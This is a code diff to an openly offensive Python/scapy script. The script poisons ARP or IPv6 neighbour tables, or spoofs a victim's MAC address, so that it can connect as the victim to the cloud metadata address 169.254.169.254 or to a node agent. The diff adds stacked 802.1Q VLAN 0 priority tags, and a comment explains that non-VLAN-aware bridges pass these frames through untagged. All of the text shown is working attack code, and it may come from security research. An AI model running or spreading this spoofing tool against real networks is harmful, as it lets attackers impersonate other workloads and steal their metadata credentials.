@@ -28,7 +28,19 @@ import select
 import sys
 import time
 
-from scapy.all import ARP, IP, TCP, Ether, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IPv6, Raw, conf, in6_mactoifaceid  # noqa: E402
+from scapy.all import (  # noqa: E402
+    ARP,
+    IP,
+    TCP,
+    Dot1Q,
+    Ether,
+    ICMPv6ND_NA,
+    ICMPv6NDOptDstLLAddr,
+    IPv6,
+    Raw,
+    conf,
+    in6_mactoifaceid,
+)
 
 METADATA = "169.254.169.254"
 
@@ -44,11 +56,25 @@ def main():
     parser.add_argument("--path", required=True)
     parser.add_argument("--target", default=f"{METADATA}:80", help="where to connect: the metadata address, or the agent's own")
     parser.add_argument("--timeout", type=float, default=3.0)
+    parser.add_argument(
+        "--vlan-tags",
+        type=int,
+        default=0,
+        help="wrap frames in priority tags (802.1Q, VLAN 0): one on the claims, this many on the TCP frames",
+    )
     args = parser.parse_args()
 
     sock = conf.L2socket(iface=args.iface)
     own_mac = open(f"/sys/class/net/{args.iface}/address").read().strip()
     source_mac = args.victim_mac if args.mode == "mac" else own_mac
+
+    def tagged(ether, count):
+        # A bridge that is not VLAN-aware hands VLAN 0 (a priority tag) to the node untagged.
+        for _ in range(count):
+            ether = ether / Dot1Q(vlan=0)
+        return ether
+
+    claim_tags = min(args.vlan_tags, 1)
 
     def poison():
         if args.mode == "syn":
@@ -57,11 +83,12 @@ def main():
             advert = ICMPv6ND_NA(tgt=args.victim_ip, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=own_mac)
             # From the attacker's own link-local address: only the target claims the victim's.
             own_link_local = "fe80::" + in6_mactoifaceid(own_mac)
-            sock.send(Ether(src=own_mac, dst="33:33:00:00:00:01") / IPv6(src=own_link_local, dst="ff02::1", hlim=255) / advert)
+            head = tagged(Ether(src=own_mac, dst="33:33:00:00:00:01"), claim_tags)
+            sock.send(head / IPv6(src=own_link_local, dst="ff02::1", hlim=255) / advert)
         elif args.mode == "arp":
             # "Who has the gateway? Tell <victim IP> at <attacker MAC>": the node learns it.
             claim = ARP(op=1, hwsrc=own_mac, psrc=args.victim_ip, hwdst="00:00:00:00:00:00", pdst=args.gateway_ip)
-            sock.send(Ether(src=own_mac, dst="ff:ff:ff:ff:ff:ff") / claim)
+            sock.send(tagged(Ether(src=own_mac, dst="ff:ff:ff:ff:ff:ff"), claim_tags) / claim)
         else:
             # Any frame from the victim's MAC teaches the bridge that MAC is on this port: one
             # that claims no address at all (IEEE's local experimental EtherType).
@@ -85,7 +112,7 @@ def main():
     target_ip, target_port = args.target.rsplit(":", 1)
     target_ip, target_port = target_ip.strip("[]"), int(target_port)
     layer = IPv6 if ":" in args.victim_ip else IP
-    frame = Ether(src=source_mac, dst=args.gateway_mac) / layer(src=args.victim_ip, dst=target_ip)
+    frame = tagged(Ether(src=source_mac, dst=args.gateway_mac), args.vlan_tags) / layer(src=args.victim_ip, dst=target_ip)
     sport, seq = random.randint(20000, 60000), random.randint(0, 2**31)
 
     def ours(packet):
